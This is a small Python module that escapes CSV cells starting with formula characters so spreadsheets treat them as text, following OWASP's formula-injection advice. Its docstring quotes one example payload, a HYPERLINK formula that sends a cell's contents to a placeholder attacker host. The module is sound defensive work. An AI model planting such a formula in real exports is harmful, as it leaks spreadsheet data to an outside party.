"""CSV cells that a spreadsheet will not run: OWASP's advice against formula injection.

A player named ``=HYPERLINK("http://evil.example/?x="&A1,"点我")`` would otherwise become
a live formula in the organiser's Excel or LibreOffice. A cell starting with ``=``,
``+``, ``-``, ``@``, tab or carriage return is prefixed with ``'`` so it stays text; a
plain number (``-7``, ``+0.5``) is left alone, so scores still add up in the sheet.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def safe_cell(value: object) -> object:
    """``value`` as written to the CSV: numbers unchanged, formula-like text defused."""
    if not isinstance(value, str) or NUMBER.fullmatch(value):
        return value
    return "'" + value if value.startswith(FORMULA_STARTS) else value
